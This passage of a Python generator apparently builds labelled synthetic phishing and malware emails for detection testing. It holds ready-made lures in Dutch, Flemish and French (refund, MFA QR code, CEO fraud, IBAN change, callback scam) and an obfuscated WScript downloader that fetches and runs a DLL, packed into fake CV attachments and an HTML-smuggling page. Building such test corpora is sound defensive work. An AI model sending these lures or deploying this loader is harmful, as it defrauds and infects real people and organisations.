        core=[f"From: {addr('CNS Luxembourg', 'info@' + dom)}", "To: undisclosed-recipients:;",
              f"Subject: {enc('CNS : remboursement en attente')}", f"Date: {rfc(when)}",
              f"Message-ID: <{guid(seed).upper()}@{dom}>", "X-Mailer: Microsoft Outlook 16.0"]),
        alt(seed, plain, html))
    add("phishing", "phish", "cns-remboursement-lu", "Luxembourg CNS health-insurance 'remboursement en attente' lure in "
        "French sent from a hijacked Luxembourg garage mailbox via the POST relay, link to a pages.dev card page.", raw)


@msg
def p_mutualiteit_cm():
    seed, when = "cm-terugbet", T(2024, 10, 22, 18, 12, 49)
    rcpt, dom = "bart.maes.gent@gmail.com", "cm-ledenservice.be"
    url = f"https://cm-ledenservice.be/mijn-cm/terugbetaling?id={alnum(seed + 'i', 10)}"
    hop = Hop(ip="176.97.210.44", helo=f"mail.{dom}", mailfrom=f"leden@{dom}", dkim_res="pass", dkim_d=dom,
              dkim_s="default", dmarc="pass", hfrom=dom, policy="none")
    plain = ("CM - Christelijke Mutualiteit\n\nBeste lid,\n\nEr staat een terugbetaling van € 57,20 voor u klaar (medische "
             "kosten september).\nDe overschrijving is mislukt omdat uw rekeningnummer niet bevestigd is.\n\n"
             f"Bevestig via itsme of bankkaart: {url}\n\nVriendelijke groeten,\nUw CM\n")
    html = html_doc(card(
        "<p>Beste lid,</p><p>Er staat een terugbetaling van <b>&euro;&nbsp;57,20</b> voor u klaar (medische kosten "
        "september). De overschrijving is mislukt omdat uw rekeningnummer niet bevestigd is.</p>"
        + button(url, "Terugbetaling ontvangen", "#009b48") + "<p>Vriendelijke groeten,<br>Uw CM</p>",
        header='<span style="font-family:Arial;font-size:22px;font-weight:bold;color:#009b48;">CM</span>',
        footer="Landsbond der Christelijke Mutualiteiten &ndash; Haachtsesteenweg 579, 1031 Brussel"), "CM")
    raw = message(mailbox(
        seed=seed, when=when, provider="gmail", rcpt=rcpt, hop=hop, sig=dkim(dom, "default", seed, t=when),
        core=[f"From: {addr('CM Ledenservice', 'leden@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('Uw terugbetaling van € 57,20 staat klaar')}", f"Date: {rfc(when)}",
              f"Message-ID: {mid(seed, dom, 'phpmailer')}", "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"]),
        alt(seed, plain, html))
    add("phishing", "phish", "cm-mutualiteit-terugbetaling", "Christelijke Mutualiteit 'terugbetaling € 57,20 klaar' lure "
        "(Flemish) from a look-alike .be domain that hosts the itsme/card phishing page.", raw)


@msg
def p_school_onedrive_notion():
    seed, when = "school-notion", T(2025, 1, 21, 12, 37, 15)
    tenant = "dewegwijzer-school.nl"
    rcpt = f"m.vos@{tenant}"
    dom = "obs-hetkompas.nl"
    sender = f"directie@{dom}"
    url = f"https://fluorescent-canary-{hx(seed, 3)}.notion.site/Gedeeld-document-{hx(seed + 'n', 32)}"
    kw, hops, sig, pr, sub = m365_out(seed, when, dom, sender)
    hop = Hop(**kw, dkim_res="pass", dkim_d=dom, dkim_s="selector1", dmarc="pass", hfrom=dom, policy="quarantine")
    plain = ("Beste collega,\n\nVia OneDrive is een document met u gedeeld: \"Formatie en bezetting 2025-2026 (concept).pdf\".\n\n"
             f"Document openen: {url}\n\nMet vriendelijke groet,\n\nIngrid Smeets\nDirecteur OBS Het Kompas\n")
    paras = "\n".join(mso_p(x) for x in [
        "Beste collega,", "",
        "Via OneDrive is een document met u gedeeld: <b>&quot;Formatie en bezetting 2025-2026 (concept).pdf&quot;</b>.", "",
        f'<a href="{url}"><span style="color:#0078d4">&#128196; Document openen</span></a>', "",
        "Met vriendelijke groet,", "", "Ingrid Smeets", "Directeur OBS Het Kompas"])
    raw = message(mailbox(seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop, hops=hops, sig=sig,
                          core=outlook_core(seed, when, addr("Ingrid Smeets", sender), rcpt,
                                            "Gedeeld document: Formatie en bezetting 2025-2026", pr, sub)),
                  outlook_body(seed, plain, paras))
    add("phishing", "phish", "school-onedrive-notion-compromised", "Mail to a primary-school teacher from the hijacked "
        "M365 mailbox of another school's director (passes SPF/DKIM/DMARC): fake OneDrive share of a 'formatie' "
        "document, link to a notion.site page that forwards to a Microsoft login phish.", raw)


@msg
def p_gemeente_qr_pdf_mfa():
    seed, when = "gem-mfa-qr", T(2025, 3, 4, 8, 6, 29)
    tenant = "oostvliet.nl"
    rcpt = f"r.bosman@{tenant}"
    dom = "mfa-beheer-portal.com"
    qr_url = f"https://oostvliet.sso-authenticatie.com/mfa/?u={base64.b64encode(rcpt.encode()).decode()}"
    pdf = pdf_with_qr(["Gemeente Oostvliet - ICT Servicedesk", "", "Verplichte herregistratie Microsoft Authenticator", "",
                       f"Medewerker: {rcpt}", "",
                       "In verband met de overstap naar het nieuwe beveiligingsbeleid moet iedere medewerker",
                       "de multifactor-authenticatie (MFA) opnieuw registreren voor 7 maart 2025.",
                       "Scan de QR-code met de camera van uw mobiele telefoon en volg de stappen."],
                      qr_url, ["Niet tijdig geregistreerde accounts worden tijdelijk geblokkeerd.", "",
                               "ICT Servicedesk - toestel 4400"], "MFA herregistratie")
    hop = Hop(ip="103.224.182.41", helo=f"mail.{dom}", mailfrom=f"servicedesk@{dom}", dkim_res="pass", dkim_d=dom,
              dkim_s="default", dmarc="pass", hfrom=dom, policy="none")
    plain = ("Beste medewerker,\n\nZie bijgevoegde instructie voor de verplichte herregistratie van Microsoft Authenticator.\n\n"
             "Met vriendelijke groet,\nICT Servicedesk\n")
    body = Multi("mixed", boundary(seed + "m"), [
        text(plain), attachment("application/pdf", f"MFA_herregistratie_{rcpt.split('@')[0].replace('.', '_')}.pdf", pdf)])
    raw = message(mailbox(
        seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop, sig=dkim(dom, "default", seed),
        core=[f"From: {addr('ICT Servicedesk', 'servicedesk@' + dom)}", f"To: {rcpt}",
              f"Subject: {enc('Actie vereist: MFA herregistratie vóór 7 maart')}", f"Date: {rfc(when)}",
              f"Message-ID: {mid(seed, dom, 'uuid')}"]),
        body)
    add("phishing", "phish", "gemeente-mfa-qr-pdf", "QR-code phishing against a gemeente employee: short mail from an "
        "outside 'ICT Servicedesk' domain with a PDF whose only call to action is a QR code to a personalised "
        "Microsoft login phish (user's address base64 in the URL).", raw)


# ---------------------------------------------------------------------------
# attacks: fraud without links (BEC, invoice fraud, hoi mam, advance fee, callback)
# ---------------------------------------------------------------------------

@msg
def p_ceo_fraud_gemeente():
    seed, when = "ceo-gemeente", T(2025, 6, 26, 8, 52, 11)
    tenant = "oostvliet.nl"
    rcpt, sender = f"a.kramer@{tenant}", "p.vanderzee.burgemeester@outlook.com"
    kw, hops, sig, pr, sub = m365_out(seed, when, "outlook.com", sender, consumer=True)
    hop = Hop(**kw, dkim_res="pass", dkim_d="outlook.com", dkim_s="selector1", dmarc="pass", hfrom="outlook.com", policy="none")
    plain = ("Goedemorgen Anouk,\n\nBen je op kantoor? Ik zit de hele ochtend in overleg met de provincie en kan niet\n"
             "bellen. Ik heb je hulp nodig bij een dringende betaling die vandaag nog weg moet.\n\n"
             "Laat even weten of je beschikbaar bent.\n\nPeter van der Zee\nBurgemeester\n\nVerzonden vanaf mijn iPhone\n")
    paras = "\n".join(mso_p(x) for x in plain.strip("\n").split("\n"))
    raw = message(mailbox(seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop, hops=hops, sig=sig,
                          core=outlook_core(seed, when, addr("Peter van der Zee", sender), rcpt, "Verzoek", pr, sub)),
                  outlook_body(seed, plain, paras))
    add("phishing", "phish", "ceo-fraud-burgemeester", "CEO fraud against a gemeente finance employee: the burgemeester's "
        "name on a free outlook.com address asking whether she is available for an urgent payment today (no link, no "
        "attachment; the IBAN would follow in the reply).", raw)


@msg
def p_iban_change_lookalike():
    seed, when = "iban-wijziging", T(2025, 9, 15, 14, 3, 22)
    tenant = "installatiebedrijf-kok.nl"
    rcpt = f"administratie@{tenant}"
    real_dom, fake_dom = "technischegroothandel-devries.nl", "technischegroothandel-devrles.nl"
    sender = f"debiteuren@{fake_dom}"
    new_iban = iban("NL", "BUNQ", "2093" + digits(seed + "ib", 6))
    old_iban = iban("NL", "RABO", "03" + digits(seed + "ob", 8))
    kw, hops, sig, pr, sub = m365_out(seed, when, fake_dom, sender)
    hop = Hop(**kw, dkim_res="pass", dkim_d=fake_dom, dkim_s="selector1", dmarc="pass", hfrom=fake_dom, policy="none")
    letter = files.pdf([
        "Technische Groothandel De Vries B.V.", "Industrieweg 14, 3846 BD Harderwijk", "KvK 08123456 - BTW NL008123456B01", "",
        "Betreft: wijziging bankgegevens", "", "Geachte relatie,", "",
        "Als gevolg van een interne herstructurering en een audit van onze huisbank wijzigt ons",
        "rekeningnummer per direct. Wij verzoeken u alle openstaande en toekomstige facturen",
        "uitsluitend nog te voldoen op onderstaand rekeningnummer:", "",
        f"IBAN: {iban_spaced(new_iban)}", "BIC: BUNQNL2A", "t.n.v. Technische Groothandel De Vries", "",
        f"Het oude rekeningnummer ({iban_spaced(old_iban)}) wordt binnenkort opgeheven.", "",
        "Met vriendelijke groet,", "", "M. de Vries", "Financiele administratie"], title="Wijziging bankgegevens")
    plain = ("Goedemiddag,\n\nZoals telefonisch besproken met uw collega hierbij de brief met onze nieuwe bankgegevens.\n"
             "Wilt u factuur 2025-0871 (€ 14.862,50) en de openstaande posten van augustus op het nieuwe\n"
             "rekeningnummer voldoen? Graag een korte bevestiging wanneer de wijziging in uw systeem is doorgevoerd.\n\n"
             "Met vriendelijke groet,\n\nMarloes de Vries\nDebiteurenadministratie\nTechnische Groothandel De Vries B.V.\n"
             "T 0341 - 42 18 90\n\n"
             f"Van: Administratie <{rcpt}>\nVerzonden: vrijdag 12 september 2025 10:14\n"
             f"Aan: Debiteuren <debiteuren@{real_dom}>\nOnderwerp: RE: Factuur 2025-0871\n\n"
             "Hallo Marloes,\n\nDank, de factuur staat ingepland voor de betaalrun van volgende week.\n\nGroet,\nSandra\n")
    quoted = "".join(mso_p(x) for x in [
        f"<b>Van:</b> Administratie &lt;{rcpt}&gt;", "<b>Verzonden:</b> vrijdag 12 september 2025 10:14",
        f"<b>Aan:</b> Debiteuren &lt;debiteuren@{real_dom}&gt;", "<b>Onderwerp:</b> RE: Factuur 2025-0871", "",
        "Hallo Marloes,", "", "Dank, de factuur staat ingepland voor de betaalrun van volgende week.", "", "Groet,", "Sandra"])
    paras = "\n".join(mso_p(x) for x in [
        "Goedemiddag,", "",
        "Zoals telefonisch besproken met uw collega hierbij de brief met onze nieuwe bankgegevens. Wilt u factuur 2025-0871 "
        "(&euro; 14.862,50) en de openstaande posten van augustus op het nieuwe rekeningnummer voldoen? Graag een korte "
        "bevestiging wanneer de wijziging in uw systeem is doorgevoerd.", "", "Met vriendelijke groet,", "",
        "<b>Marloes de Vries</b>", "Debiteurenadministratie", "Technische Groothandel De Vries B.V.", "T 0341 - 42 18 90", ""]) + \
        f'\n<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">{quoted}</div>'
    raw = message(mailbox(seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop, hops=hops, sig=sig,
                          core=outlook_core(seed, when, addr("Debiteuren | Technische Groothandel De Vries", sender), rcpt,
                                            "RE: Factuur 2025-0871", pr, sub, attach=True,
                                            in_reply_to=f"<AM8PR02MB{digits(seed + 'irt', 4)}{HX(seed + 'irt', 20)}@AM8PR02MB{digits(seed + 'irt', 4)}.eurprd02.prod.outlook.com>",
                                            topic="Factuur 2025-0871")),
                  outlook_body(seed, plain, paras, [attachment("application/pdf", "Wijziging bankgegevens.pdf", letter)]))
    add("phishing", "phish", "iban-wijziging-lookalike-thread", "Invoice fraud on a small installer: a thread about a real "
        "invoice continued from a look-alike supplier domain (devrles vs devries, own M365 tenant passing SPF/DKIM/DMARC) "
        "with a PDF letter moving payments to a new bunq IBAN.", raw)


@msg
def p_reply_hijack_zip_link():
    seed, when = "hijack-bestelbon", T(2024, 3, 19, 9, 41, 5)
    tenant = "vandaele-bouw.be"
    rcpt = f"aankoop@{tenant}"
    dom = "houthandel-verstraete.be"
    sender = f"koen@{dom}"
    url = (f"https://www.dropbox.com/scl/fi/{alnum(seed + 'db', 21).lower()}/Bestelbon_4471_aangepast.zip?"
           f"rlkey={alnum(seed + 'rk', 25).lower()}&dl=1")
    kw, hops, sig, pr, sub = m365_out(seed, when, dom, sender)
    hop = Hop(**kw, dkim_res="pass", dkim_d=dom, dkim_s="selector1", dmarc="pass", hfrom=dom, policy="none")
    plain = ("Hallo Lieven,\n\nIn bijlage via onderstaande link de aangepaste bestelbon en leveringsdocumenten.\n\n"
             f"{url}\n\nWachtwoord documenten: 4471\n\nMvg,\nKoen\n\n"
             f"Van: Lieven Vandaele <{rcpt}>\nVerzonden: maandag 18 maart 2024 16:52\nAan: Koen Verstraete <{sender}>\n"
             "Onderwerp: bestelbon 4471 - levering week 12\n\nDag Koen,\n\nKan de levering van de eiken balken naar donderdag?\n"
             "Werf in Deinze, Kortrijkstraat 112.\n\nMvg,\nLieven\n")
    paras = "\n".join(mso_p(x) for x in [
        "Hallo Lieven,", "", "In bijlage via onderstaande link de aangepaste bestelbon en leveringsdocumenten.", "",
        f'<a href="{url}">Bestelbon_4471_aangepast.zip</a>', "", "Wachtwoord documenten: 4471", "", "Mvg,", "Koen", ""]) + \
        '\n<div style="border:none;border-top:solid #E1E1E1 1.0pt;padding:3.0pt 0cm 0cm 0cm">' + "".join(mso_p(x) for x in [
            f"<b>Van:</b> Lieven Vandaele &lt;{rcpt}&gt;", "<b>Verzonden:</b> maandag 18 maart 2024 16:52",
            f"<b>Aan:</b> Koen Verstraete &lt;{sender}&gt;", "<b>Onderwerp:</b> bestelbon 4471 - levering week 12", "",
            "Dag Koen,", "", "Kan de levering van de eiken balken naar donderdag?", "Werf in Deinze, Kortrijkstraat 112.", "",
            "Mvg,", "Lieven"]) + "</div>"
    raw = message(mailbox(seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop, hops=hops, sig=sig,
                          core=outlook_core(seed, when, addr("Koen Verstraete", sender), addr("Lieven Vandaele", rcpt),
                                            "RE: bestelbon 4471 - levering week 12", pr, sub,
                                            in_reply_to=f"<DB9PR01MB{digits(seed + 'irt', 4)}{HX(seed + 'irt', 20)}@DB9PR01MB{digits(seed + 'irt', 4)}.eurprd01.prod.outlook.com>",
                                            topic="bestelbon 4471 - levering week 12")),
                  outlook_body(seed, plain, paras))
    add("phishing", "phish", "reply-hijack-dropbox-zip", "Reply-chain hijack from a Flemish timber supplier's compromised "
        "M365 mailbox (passes everything): a real order thread continued with a Dropbox direct-download link to a "
        "password-protected zip (malware loader delivered by link).", raw)


@msg
def p_hoi_mam():
    seed, when = "hoi-mam", T(2024, 4, 8, 19, 26, 44)
    rcpt, sender = "ria.degroot@ziggo.nl", "sanne.degroot2002@gmail.com"
    kw, hops, sig = gmail_out(seed, when, sender, rcpt)
    plain = ("Hoi mam, mijn telefoon is in het water gevallen en ik heb een nieuw nummer. Dit is mijn nieuwe nummer\n"
             "06 41 83 27 96, wil je me appen? Ik moet vandaag nog iets betalen en mijn bank app doet het niet op\n"
             "de nieuwe telefoon. Liefs x\n")
    raw = message(mailbox(seed=seed, when=when, provider="ziggo", rcpt=rcpt,
                          hop=Hop(**{**kw}, tls=TLS13), hops=hops, sig=sig,
                          core=gmail_core(seed, when, addr("Sanne", sender), rcpt, "Hoi mam")),
                  gmail_body(seed, plain))
    add("phishing", "phish", "hoi-mam-gmail", "'Hoi mam' friend-in-need scam moved to mail: a Gmail account with the "
        "daughter's first name says her phone broke and asks to be messaged on a new number to pay something today.", raw)


@msg
def p_advance_fee_fr():
    seed, when = "avance-frais", T(2025, 7, 28, 3, 17, 40)
    rcpt = "mireille.thill@pt.lu"
    dom = "students.ku.ac.ke"
    sender = f"j.mwangi{digits(seed, 3)}@{dom}"
    reply = "maitre.delcourt.notaire@gmail.com"
    kw, hops, sig, pr, sub = m365_out(seed, when, dom, sender)
    hop = Hop(**kw, dkim_res="pass", dkim_d=dom, dkim_s="selector1", dmarc="pass", hfrom=dom, policy="none")
    plain = ("Bonjour,\n\nJe suis Maître Françoise Delcourt, notaire à Paris. Je vous contacte au sujet de la succession de\n"
             "feu M. Henri Thill, décédé sans héritier direct, dont le patrimoine s'élève à 2.850.000 EUR.\n"
             "Après recherches, votre nom de famille figure parmi les bénéficiaires possibles.\n\n"
             "Afin d'ouvrir le dossier, merci de me répondre à mon adresse privée avec vos nom complet, adresse,\n"
             "numéro de téléphone et une copie de votre pièce d'identité.\n\n"
             f"Adresse de réponse : {reply}\n\nBien à vous,\nMe F. Delcourt\n")
    paras = "\n".join(mso_p(x) for x in plain.strip("\n").split("\n"))
    raw = message(mailbox(seed=seed, when=when, provider="postlu", rcpt=rcpt, hop=hop, hops=hops, sig=sig,
                          core=outlook_core(seed, when, addr("Me Françoise Delcourt", sender), "undisclosed-recipients:;",
                                            "Succession THILL - bénéficiaire", pr, sub, lang="fr-FR",
                                            reply_to=addr("Me Delcourt", reply))),
                  outlook_body(seed, plain, paras))
    add("phishing", "phish", "succession-avance-de-frais", "French advance-fee 'inheritance of a namesake' letter sent "
        "in bulk from a compromised Kenyan university student mailbox, Reply-To a Gmail 'notaire' asking for identity "
        "documents.", raw)


@msg
def p_paypal_invoice_callback():
    seed, when = "paypal-callback", T(2025, 2, 6, 23, 12, 9)
    rcpt = "h.peters1979@outlook.com"
    inv = f"INV2-{alnum(seed + 'i', 4).upper()}-{alnum(seed + 'i2', 4).upper()}-{alnum(seed + 'i3', 4).upper()}-{alnum(seed + 'i4', 4).upper()}"
    phone = "+31 85 208 47 19"
    view = f"https://www.paypal.com/invoice/p/#{inv.replace('-', '')}"
    hop = Hop(ip="173.0.84.226", helo="mx0.slc.paypal.com", mailfrom="service@paypal.nl", dkim_res="pass", dkim_d="paypal.nl",
              dkim_s="pp-dkim1", dmarc="pass", hfrom="paypal.nl", policy="reject")
    note = (f"Uw Norton 360 Deluxe abonnement (5 apparaten) is automatisch verlengd voor EUR 389,99. Niet door u "
            f"aangevraagd? Bel binnen 24 uur onze afdeling geschillen: {phone} om de betaling te annuleren.")
    plain = (f"Geek Support Services heeft u een factuur gestuurd\n\nFactuurnummer: {inv}\nVervaldatum: 06-02-2025\n"
             f"Bedrag: EUR 389,99\n\nOpmerking van verkoper:\n{note}\n\nFactuur bekijken en betalen: {view}\n\n"
             "PayPal is niet verantwoordelijk voor de inhoud van opmerkingen van verkopers.\n")
    html = html_doc(card(
        "<p style=\"font-size:20px;\">Geek Support Services heeft u een factuur gestuurd</p>"
        f"<table style=\"font-family:Arial;font-size:14px;\"><tr><td>Factuurnummer&nbsp;&nbsp;</td><td>{inv}</td></tr>"
        "<tr><td>Vervaldatum</td><td>06-02-2025</td></tr><tr><td>Bedrag</td><td><b>EUR&nbsp;389,99</b></td></tr></table>"
        f"<p><b>Opmerking van verkoper</b><br>{note}</p>" + button(view, "Factuur bekijken en betalen", "#0070e0") +
        "<p style=\"font-size:12px;color:#666;\">PayPal is niet verantwoordelijk voor de inhoud van opmerkingen van verkopers.</p>",
        header='<img src="https://www.paypalobjects.com/digitalassets/c/website/logo/full-text/pp_fc_hl.svg" alt="PayPal" width="124">',
        footer="Copyright &copy; 1999-2025 PayPal. Alle rechten voorbehouden. PayPal (Europe) S.&agrave; r.l. et Cie, S.C.A., "
               "22-24 Boulevard Royal, L-2449 Luxembourg."), "PayPal")
    raw = message(mailbox(
        seed=seed, when=when, provider="outlook", rcpt=rcpt, hop=hop,
        sig=dkim("paypal.nl", "pp-dkim1", seed, signed="content-type:mime-version:date:message-id:subject:x-email-type-id:from:to"),
        core=[f"Date: {rfc_pac(when).replace(' (PST)', '')}", f"From: {addr('service@paypal.nl', 'service@paypal.nl')}",
              f"To: {rcpt}", f"Subject: {enc('Factuur van Geek Support Services (' + inv + ')')}",
              f"Message-ID: <{hx(seed + 'pp', 12)}.{digits(seed + 'pp2', 13)}@paypal.com>",
              "X-Email-Type-Id: PPX000578", "X-MaxCode-Template: PPX000578", "X-PP-REQUESTED-TIME: " + str(int(utc(when).timestamp()) * 1000),
              "X-PP-Email-transmission-Id: " + guid(seed + "tx")]),
        alt(seed, plain, html))
    add("phishing", "phish", "paypal-invoice-norton-callback", "Genuine PayPal invoice (service@paypal.nl, passes "
        "everything) from a fraudster's seller account whose note claims a Norton renewal of EUR 389,99 and gives a "
        "Dutch phone number to 'cancel': callback scam leading to remote-access and bank fraud.", raw)


# ---------------------------------------------------------------------------
# attacks that carry the malicious file themselves (malware)
# ---------------------------------------------------------------------------

JS_LOADER = (
    "// " + "Copyright (c) Adobe Systems Incorporated. All rights reserved.\n"
    "var _0x4a1c=['WScript.Shell','MSXML2.ServerXMLHTTP.6.0','ADODB.Stream','%TEMP%','\\\\upd_{n}.dll','GET'];\n"
    "function _0x2b(i){{return _0x4a1c[i];}}\n"
    "var sh=new ActiveXObject(_0x2b(0));var tmp=sh.ExpandEnvironmentStrings(_0x2b(3))+_0x2b(4);\n"
    "var x=new ActiveXObject(_0x2b(1));x.open(_0x2b(5),'https://{host}/{path}',false);x.send();\n"
    "if(x.status==200){{var s=new ActiveXObject(_0x2b(2));s.Type=1;s.Open();s.Write(x.responseBody);\n"
    "s.SaveToFile(tmp,2);s.Close();sh.Run('rundll32.exe '+tmp+',DllRegisterServer',0,false);}}\n"
    "sh.Run('explorer.exe \"https://www.google.com\"',1,false);\n")


@msg
def m_sollicitatie_iso_lnk():
    seed, when = "sollicitatie-iso", T(2024, 11, 5, 10, 22, 47)
    tenant = "dewegwijzer-school.nl"
    rcpt, sender = f"personeelszaken@{tenant}", "sanne.kuipers.pabo@gmail.com"
    lnk = files.lnk_shortcut(r"C:\Windows\System32\rundll32.exe", r"data\vcruntime.dll,DllRegisterServer")
    iso = files.iso_image([("CV_Sanne_Kuipers.pdf.lnk", lnk), ("vcruntime.dll", files.pe_stub()),
                           ("Motivatiebrief.pdf", files.pdf(["Motivatiebrief", "", "Sanne Kuipers"], title="Motivatie"))],
                          "CV_SANNE")
    kw, hops, sig = gmail_out(seed, when, sender, rcpt)
    plain = ("Geachte heer/mevrouw,\n\nGraag solliciteer ik naar de vacature leerkracht groep 5/6 (0,8 fte) die ik op\n"
             "Meesterbaan zag. Ik heb vorig jaar mijn pabo-diploma behaald en werk momenteel als invaller.\n\n"
             "In de bijlage vindt u mijn cv en motivatiebrief. Ik kom graag op gesprek.\n\nMet vriendelijke groet,\n\n"
             "Sanne Kuipers\n06 - 28 14 73 60\n")
    raw = message(mailbox(seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt,
                          hop=Hop(**kw), hops=hops, sig=sig,
                          core=gmail_core(seed, when, addr("Sanne Kuipers", sender), rcpt,
                                          "Sollicitatie leerkracht groep 5/6")),
                  gmail_body(seed, plain, attachments=[attachment("application/x-iso9660-image", "CV_Sanne_Kuipers.iso", iso)]))
    add("malware", "phish", "sollicitatie-iso-lnk", "Fake job application to a school's HR mailbox from Gmail with an "
        "ISO disc image holding a shortcut disguised as the CV PDF that runs a DLL from the same image via rundll32.", raw)


@msg
def m_sollicitatie_zip_js():
    seed, when = "sollicitatie-js", T(2025, 8, 19, 14, 8, 31)
    tenant = "oostvliet.nl"
    rcpt, sender = f"vacatures@{tenant}", "tom.brouwer.1994@hotmail.com"
    js = JS_LOADER.format(n=digits(seed, 4), host="cdn.office-templates-sync.com",
                          path=f"cv/{alnum(seed + 'p', 10)}.png").encode()
    zipped = files.zip_archive([("CV_Tom_Brouwer_2025.pdf.js", js)])
    kw, hops, sig, pr, sub = m365_out(seed, when, "hotmail.com", sender, consumer=True)
    hop = Hop(**kw, dkim_res="pass", dkim_d="hotmail.com", dkim_s="selector1", dmarc="pass", hfrom="hotmail.com", policy="none")
    plain = ("Beste heer/mevrouw,\n\nHierbij reageer ik op de vacature Medewerker Burgerzaken (32-36 uur). Mijn cv en\n"
             "diploma's zitten in het zip-bestand omdat de bestanden te groot waren.\n\n"
             "Ik hoor graag van u.\n\nMet vriendelijke groet,\nTom Brouwer\n")
    paras = "\n".join(mso_p(x) for x in plain.strip("\n").split("\n"))
    raw = message(mailbox(seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop, hops=hops, sig=sig,
                          core=outlook_core(seed, when, addr("Tom Brouwer", sender), rcpt,
                                            "Sollicitatie Medewerker Burgerzaken", pr, sub, attach=True)),
                  outlook_body(seed, plain, paras, [attachment("application/x-zip-compressed", "Sollicitatie_Tom_Brouwer.zip", zipped)]))
    add("malware", "phish", "sollicitatie-zip-js", "Fake application for a gemeente vacancy from a Hotmail account with "
        "a zip holding 'CV_Tom_Brouwer_2025.pdf.js', a WScript downloader that fetches and runs a DLL.", raw)


@msg
def m_factuur_html_smuggling():
    seed, when = "html-smuggle", T(2025, 12, 9, 9, 58, 36)
    tenant = "vandaele-bouw.be"
    rcpt = f"boekhouding@{tenant}"
    dom = "bureau-claeys-accountancy.be"
    sender = f"facturatie@{dom}"
    js = JS_LOADER.format(n=digits(seed, 4), host="static.fileshare-eu.net", path=f"f/{alnum(seed + 'p', 12)}").encode()
    payload = base64.b64encode(files.zip_archive([("Factuur_F2025-0613.js", js)])).decode()
    chunks = [payload[i:i + 64] for i in range(0, len(payload), 64)]
    page = ("<!DOCTYPE html><html><head><meta charset=\"utf-8\"><title>Factuur F2025-0613</title>\n"
            "<style>body{font-family:Segoe UI,Arial;background:#f2f2f2;text-align:center;padding-top:120px}</style></head>\n"
            "<body><img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" alt=\"\"><h3>Document wordt gedownload...</h3>\n"
            "<p>Open het bestand Factuur_F2025-0613.zip als de download niet automatisch start.</p>\n<script>\n"
            "var p=[\n" + ",\n".join(f"'{c}'" for c in chunks) + "\n].join('');\n"
            "var b=atob(p),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++){u[i]=b.charCodeAt(i);}\n"
            "var f=new Blob([u],{type:'application/octet-stream'});var a=document.createElement('a');\n"
            "a.href=window.URL.createObjectURL(f);a.download='Factuur_F2025-0613.zip';document.body.appendChild(a);a.click();\n"
            "</script></body></html>\n")
    hop = Hop(ip="193.70.81.149", helo="ns3048211.ip-193-70-81.eu", mailfrom=f"facturatie@{dom}", spf="pass",
              dkim_res="none", dmarc="none", hfrom=dom, policy="none")
    plain = ("Goeiedag,\n\nIn bijlage vindt u factuur F2025-0613 voor de geleverde diensten in november.\n"
             "Gelieve te betalen binnen 14 dagen.\n\nMet vriendelijke groeten,\nBureau Claeys Accountancy\n")
    body = Multi("mixed", boundary(seed + "mx"), [text(plain), attachment("text/html", "Factuur_F2025-0613.html", page.encode())])
    raw = message(mailbox(
        seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop,
        core=[f"From: {addr('Bureau Claeys Accountancy', sender)}", f"To: {rcpt}",
              f"Subject: {enc('Factuur F2025-0613')}", f"Date: {rfc(when)}", f"Message-ID: {mid(seed, dom, 'phpmailer')}",
              "X-Mailer: PHPMailer 6.9.1 (https://github.com/PHPMailer/PHPMailer)"]),
        body)
    add("malware", "phish", "factuur-html-smuggling", "Invoice mail to a Flemish builder with an HTML attachment that "
        "rebuilds a zip from base64 in JavaScript and forces its download (HTML smuggling of a .js downloader).", raw)


@msg
def m_payment_advice_zip_exe():
    seed, when = "mt103-exe", T(2024, 9, 30, 6, 41, 12)
    tenant = "vanleeuwen-logistiek.nl"
    rcpt = f"finance@{tenant}"
    dom = "sinarjaya-freight.co.id"
    sender = f"accounts@{dom}"
    zipped = files.zip_archive([("Payment_Advice_MT103_300924.exe", files.pe_stub())])
    hop = Hop(ip="103.147.154.23", helo=f"mail.{dom}", mailfrom=sender, spf="pass", dkim_res="pass", dkim_d=dom,
              dkim_s="default", dmarc="none", hfrom=dom, policy="none")
    plain = ("Dear Sir/Madam,\n\nPlease find attached the payment advice (MT103) for your invoices INV-24-0911 and\n"
             "INV-24-0917. Kindly confirm receipt and update your ledger.\n\nBest regards,\n\nRina Wulandari\n"
             "Accounts Department\nPT Sinar Jaya Freight\n")
    html = ("<div style=\"font-family:Calibri;font-size:11pt\"><p>Dear Sir/Madam,</p><p>Please find attached the payment "
            "advice (MT103) for your invoices INV-24-0911 and INV-24-0917. Kindly confirm receipt and update your ledger.</p>"
            "<p>Best regards,</p><p><b>Rina Wulandari</b><br>Accounts Department<br>PT Sinar Jaya Freight</p></div>")
    body = Multi("mixed", boundary(seed + "mx"), [alt(seed, plain, html),
                                                  attachment("application/zip", "Payment_Advice_MT103_300924.zip", zipped)])
    raw = message(mailbox(
        seed=seed, when=when, provider="m365:" + tenant, rcpt=rcpt, hop=hop, sig=dkim(dom, "default", seed),
        hops=[rcv(f"[{'45.88.186.61'}] (unknown [45.88.186.61])", f"mail.{dom} (Postfix)", when - timedelta(seconds=2),
                  "ESMTPSA", HX(seed + 'pf', 11))],
        core=[f"From: {addr('Rina Wulandari', sender)}", f"To: {rcpt}", f"Subject: {enc('Payment Advice - MT103 Copy')}",
              f"Date: {rfc_tz(when, 7)}", f"Message-ID: <{hx(seed, 20)}@{dom}>", "X-Mailer: Microsoft Outlook 16.0"]),
        body)
    add("malware", "phish", "payment-advice-zip-exe", "'Payment Advice MT103' to a logistics firm's finance mailbox from "
        "an Indonesian freight company's server, with a zip holding a Windows executable (info-stealer pattern).", raw)


@msg
def m_rfq_gz_exe():
    seed, when = "rfq-gz", T(2025, 4, 8, 11, 3, 52)
    rcpt = "contact@menuiserie-schiltz.lu"
    dom = "gmail.com"
    sender = "achats.procurement.fr@gmail.com"
